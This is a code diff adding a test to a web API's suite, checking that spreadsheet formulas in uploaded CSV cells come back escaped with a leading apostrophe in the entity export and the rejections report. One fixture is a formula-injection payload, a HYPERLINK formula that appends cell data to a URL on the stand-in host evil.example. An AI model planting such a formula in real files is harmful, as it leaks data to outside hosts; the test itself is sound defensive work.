@@ -136,3 +136,24 @@ describe('text the database cannot store', () => {
     expect(body.detail).toMatch(/the CSV header contains a NUL character \(U\+0000\)$/);
   });
 });
+
+describe('formulas in cells', () => {
+  it('come back as text in the entity export and the rejections report', async () => {
+    const { inside } = await kit.places();
+    const p = inside[4];
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
+    const text = csv([
+      ['key', 'category', 'lon', 'lat', 'note'],
+      ['formula-1', 'LE02', p.lon, p.lat, `"${formula.replaceAll('"', '""')}"`],
+      ['=1+1', 'LE02', 'x', p.lat, 'rejected'],
+    ]);
+    const { body } = await kit.post('format=csv', text);
+    expect(body.counts).toMatchObject({ inserted: 1, rejected: 1 });
+    const [row] = await kit.entities('formula-1');
+    expect(row.attrs.note).toBe(formula);
+    const exported = await (await kit.t.app.request(`/api/v1/entities?category=LE02&grid=${p.grid}&format=csv`)).text();
+    expect(exported).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
+    const report = await (await kit.t.app.request(body.rejections.csv)).text();
+    expect(report).toContain(`,"'=1+1,LE02,x,${p.lat},rejected"\r\n`);
+  });
+});
